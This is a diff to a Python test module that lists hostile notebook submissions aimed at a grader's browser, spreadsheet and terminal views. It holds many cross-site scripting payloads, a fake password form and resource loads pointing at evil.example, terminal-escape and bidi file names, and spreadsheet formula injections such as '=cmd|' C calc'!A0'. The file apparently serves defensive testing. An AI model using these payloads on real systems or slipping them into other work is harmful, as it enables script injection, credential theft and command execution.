@@ -1,5 +1,8 @@
 """Submissions that go for whoever reads the results: in a browser, a spreadsheet or a terminal."""
 
+# A payload reads best on one line, however long.
+# ruff: noqa: E501
+
 from __future__ import annotations
 
 import base64
@@ -101,38 +104,107 @@ ATTACKS = (
     _html("script_unclosed", "<script src=//evil.example/x.js "),
     _html("handler", "<img src=x onerror=alert(1)>"),
     _html("handler_slashes", "<img/src=x/onerror=alert(1)><svg/onload=alert(1)>"),
-    _html("handler_focus", "<a tabindex=1 autofocus onfocus=alert(1)>x</a><details ontoggle=alert(1) open>"),
-    _html("javascript_link", "<a href='java&#115;cript:alert(1)'>click</a><a href='\tjavascript:alert(1)'>x</a>"),
+    _html(
+        "handler_focus",
+        "<a tabindex=1 autofocus onfocus=alert(1)>x</a><details ontoggle=alert(1) open>",
+    ),
+    _html(
+        "javascript_link",
+        "<a href='java&#115;cript:alert(1)'>click</a><a href='\tjavascript:alert(1)'>x</a>",
+    ),
     _html("data_link", f"<a href='data:text/html;base64,{_encoded(_SCRIPT)}'>click</a>"),
-    _html("iframe", "<iframe srcdoc='&lt;script&gt;alert(1)&lt;/script&gt;'></iframe><object data='javascript:alert(1)'></object><embed src='javascript:alert(1)'>"),
-    _html("form", "<form action='https://evil.example/'><input name=password><button>Sign in</button></form>"),
-    _html("meta_refresh", "<meta http-equiv=refresh content='0;url=https://evil.example/'><base href='https://evil.example/'>"),
+    _html(
+        "iframe",
+        "<iframe srcdoc='&lt;script&gt;alert(1)&lt;/script&gt;'></iframe><object data='javascript:alert(1)'></object><embed src='javascript:alert(1)'>",
+    ),
+    _html(
+        "form",
+        "<form action='https://evil.example/'><input name=password><button>Sign in</button></form>",
+    ),
+    _html(
+        "meta_refresh",
+        "<meta http-equiv=refresh content='0;url=https://evil.example/'><base href='https://evil.example/'>",
+    ),
     _html("style_element", "<style>.score{display:none}body::after{content:'37/37'}</style>"),
-    _html("style_import", "<link rel=stylesheet href='https://evil.example/x.css'><style>@import 'https://evil.example/y.css'</style>"),
+    _html(
+        "style_import",
+        "<link rel=stylesheet href='https://evil.example/x.css'><style>@import 'https://evil.example/y.css'</style>",
+    ),
     _html("style_cover", _COVER),
-    _html("remote_picture", "<img src='https://evil.example/seen.png'><div style=\"background:url('https://evil.example/seen.png')\">x</div>"),
-    _html("confused_parser", "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=x onerror=alert(1)&gt;'>"),
-    _html("noscript", "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript><template><script>alert(1)</script></template>"),
+    _html(
+        "remote_picture",
+        "<img src='https://evil.example/seen.png'><div style=\"background:url('https://evil.example/seen.png')\">x</div>",
+    ),
+    _html(
+        "confused_parser",
+        "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=x onerror=alert(1)&gt;'>",
+    ),
+    _html(
+        "noscript",
+        "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript><template><script>alert(1)</script></template>",
+    ),
     _shows("svg", {"image/svg+xml": _SVG, "text/plain": "picture"}),
-    _html("svg_in_html", "<svg><a xlink:href='javascript:alert(1)'><text y=9>x</text></a><animate onbegin=alert(1) attributeName=x dur=1s></svg>"),
+    _html(
+        "svg_in_html",
+        "<svg><a xlink:href='javascript:alert(1)'><text y=9>x</text></a><animate onbegin=alert(1) attributeName=x dur=1s></svg>",
+    ),
     _shows("javascript", {"application/javascript": "alert(1)", "text/plain": "x"}),
     _shows("latex", {"text/latex": "<img src=x onerror=alert(1)>$$x$$", "text/plain": "x"}),
-    _shows("markdown_output", {"text/markdown": "<script>alert(1)</script>\n\n[x](javascript:alert(1))"}),
-    _shows("widget_view", {"application/vnd.jupyter.widget-view+json": {"model_id": "</script><script>alert(1)</script>", "version_major": 2}, "text/html": _SCRIPT}),
+    _shows(
+        "markdown_output",
+        {"text/markdown": "<script>alert(1)</script>\n\n[x](javascript:alert(1))"},
+    ),
+    _shows(
+        "widget_view",
+        {
+            "application/vnd.jupyter.widget-view+json": {
+                "model_id": "</script><script>alert(1)</script>",
+                "version_major": 2,
+            },
+            "text/html": _SCRIPT,
+        },
+    ),
     _shows("image_forged", {"image/png": 'AAAA" onerror="alert(1)', "text/plain": "x"}),
     _shows("image_forged_jpeg", {"image/jpeg": '"><script>alert(1)</script>', "text/plain": "x"}),
-    _shows("image_size", {"image/png": _PIXEL}, {"image/png": {"width": '1" onload="alert(1)', "height": '1" onerror="alert(1)'}}),
-    _shows("image_alt", {"image/png": _PIXEL, "text/plain": "x"}, {"image/png": {"alt": 'x" onerror="alert(1)', "needs_background": 'x" onload="alert(1)'}}),
-    _shows("list_for_text", {"text/html": ["<scr", "ipt>alert(1)</scr", "ipt>"], "text/plain": ["x"]}),
+    _shows(
+        "image_size",
+        {"image/png": _PIXEL},
+        {"image/png": {"width": '1" onload="alert(1)', "height": '1" onerror="alert(1)'}},
+    ),
+    _shows(
+        "image_alt",
+        {"image/png": _PIXEL, "text/plain": "x"},
+        {"image/png": {"alt": 'x" onerror="alert(1)', "needs_background": 'x" onload="alert(1)'}},
+    ),
+    _shows(
+        "list_for_text", {"text/html": ["<scr", "ipt>alert(1)</scr", "ipt>"], "text/plain": ["x"]}
+    ),
     _answers("answer_script", "Because.\n\n<script>alert(1)</script>"),
-    _answers("answer_handler", "Because <img src=x onerror='alert(1)'> and <b onclick=alert(1)>so</b>."),
-    _answers("answer_link", "[Because](javascript:alert(1)) and [so][1].\n\n[1]: javascript:alert(1)\n\n<javascript:alert(1)>"),
-    _answers("answer_link_encoded", "[x](&#x6A;avascript:alert(1)) [y](java&Tab;script:alert&lpar;1&rpar;) [z](JaVaScRiPt:alert(1))"),
-    _answers("answer_picture", "![x](javascript:alert(1)) ![y](https://evil.example/seen.png \"a\\\" onload=alert(1)\")"),
+    _answers(
+        "answer_handler", "Because <img src=x onerror='alert(1)'> and <b onclick=alert(1)>so</b>."
+    ),
+    _answers(
+        "answer_link",
+        "[Because](javascript:alert(1)) and [so][1].\n\n[1]: javascript:alert(1)\n\n<javascript:alert(1)>",
+    ),
+    _answers(
+        "answer_link_encoded",
+        "[x](&#x6A;avascript:alert(1)) [y](java&Tab;script:alert&lpar;1&rpar;) [z](JaVaScRiPt:alert(1))",
+    ),
+    _answers(
+        "answer_picture",
+        '![x](javascript:alert(1)) ![y](https://evil.example/seen.png "a\\" onload=alert(1)")',
+    ),
     _answers("answer_svg", "Because.\n\n" + _SVG),
     _answers("answer_style", "<style>body{display:none}</style>\n\n" + _COVER),
-    _answers("answer_code_fence", "```html\n</code></pre><script>alert(1)</script>\n```\n\n``` \"><script>alert(1)</script>\nx\n```\n\n<script>alert(1)</script>"),
-    _answers("answer_mathematics", "$$\\href{javascript:alert(1)}{x}$$ $<img src=x onerror=alert(1)>$ $</script><script>alert(1)</script>$"),
+    _answers(
+        "answer_code_fence",
+        '```html\n</code></pre><script>alert(1)</script>\n```\n\n``` "><script>alert(1)</script>\nx\n```\n\n<script>alert(1)</script>',
+    ),
+    _answers(
+        "answer_mathematics",
+        "$$\\href{javascript:alert(1)}{x}$$ $<img src=x onerror=alert(1)>$ $</script><script>alert(1)</script>$",
+    ),
     _edits("attachments", _attachment),
     _edits("tags_as_classes", _tags),
     _edits("language_and_title", _language),
@@ -141,16 +213,44 @@ ATTACKS = (
     _edits("widget_state", _widgets),
     _edits("execution_count", _execution_count),
     _edits("raw_cell", _raw_cell),
-    Attack("traceback_names", GROUP, "page", {"extra": "raise type('<script>alert(1)</script>', (Exception,), {})('<img src=x onerror=alert(1)>')"}),
-    Attack("message_to_the_judge", GROUP, "page", {
-        "propagate": calling("raise ValueError('<script>alert(1)</script><img src=x onerror=alert(1)>')",
-                             "propagate", "w, b, X, Y")}),
-    Attack("key_names_to_the_judge", GROUP, "page", {
-        "propagate": calling("return {'<script>alert(1)</script>': 1}, 0.0", "propagate", "w, b, X, Y")}),
+    Attack(
+        "traceback_names",
+        GROUP,
+        "page",
+        {
+            "extra": "raise type('<script>alert(1)</script>', (Exception,), {})('<img src=x onerror=alert(1)>')"
+        },
+    ),
+    Attack(
+        "message_to_the_judge",
+        GROUP,
+        "page",
+        {
+            "propagate": calling(
+                "raise ValueError('<script>alert(1)</script><img src=x onerror=alert(1)>')",
+                "propagate",
+                "w, b, X, Y",
+            )
+        },
+    ),
+    Attack(
+        "key_names_to_the_judge",
+        GROUP,
+        "page",
+        {
+            "propagate": calling(
+                "return {'<script>alert(1)</script>': 1}, 0.0", "propagate", "w, b, X, Y"
+            )
+        },
+    ),
     Attack("terminal_in_file_name", GROUP, "terminal", notebook="a\x1b]0;owned\x07\x1b[2J.ipynb"),
     Attack("terminal_direction", GROUP, "terminal", notebook="a\u202egpj.\u2066ipynb.ipynb"),
-    Attack("terminal_line_in_file_name", GROUP, "terminal", notebook="a\x08\x08\x9b31m\rgraded.ipynb"),
-    Attack("formula_in_file_name", GROUP, "table", notebook="x,=HYPERLINK('https:evil.example').ipynb"),
+    Attack(
+        "terminal_line_in_file_name", GROUP, "terminal", notebook="a\x08\x08\x9b31m\rgraded.ipynb"
+    ),
+    Attack(
+        "formula_in_file_name", GROUP, "table", notebook="x,=HYPERLINK('https:evil.example').ipynb"
+    ),
     Attack("formula_as_file_name", GROUP, "table", notebook="a,@SUM(1+9)*cmd|' C calc'!A0.ipynb"),
     Attack("formula_as_student", GROUP, "table", student="=cmd|' C calc'!A0"),
-)  # fmt: skip
+)
